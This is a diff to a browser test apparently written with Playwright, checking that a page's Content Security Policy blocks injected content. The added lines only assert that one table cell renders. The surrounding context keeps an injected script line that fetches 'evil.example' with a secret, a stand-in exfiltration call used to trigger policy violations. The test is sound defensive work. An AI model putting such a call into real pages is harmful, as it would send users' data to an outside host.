@@ -20,6 +20,13 @@ _INJECTED = """
     fetch("https://evil.example/?secret").catch(() => {});
 """
 
+_LINES = """() => {
+    const name = document.createRange();
+    const cells = [...document.querySelectorAll(".markdown td")];
+    name.selectNodeContents(cells.find((cell) => cell.textContent === "comment"));
+    return name.getClientRects().length;
+}"""
+
 
 async def test_the_page_shows_the_contract_under_its_policy(chromium: Browser, server: LiveServer) -> None:
     """With its styles, without other hosts; and injected content has no effect."""
@@ -31,6 +38,7 @@ async def test_the_page_shows_the_contract_under_its_policy(chromium: Browser, s
         assert await tab.evaluate("document.styleSheets.length") >= 4
         assert await tab.evaluate("getComputedStyle(document.querySelector('h1')).fontFamily") != '"Times New Roman"'
         assert await tab.evaluate("violations") == []
+        assert await tab.evaluate(_LINES) == 1
         await tab.evaluate("window.isOurs = true; window.violations.length = 0; " + _INJECTED)
         await until(tab, "violations.length >= 6")
         forbidden = {directive for directive, _ in await tab.evaluate("violations")}
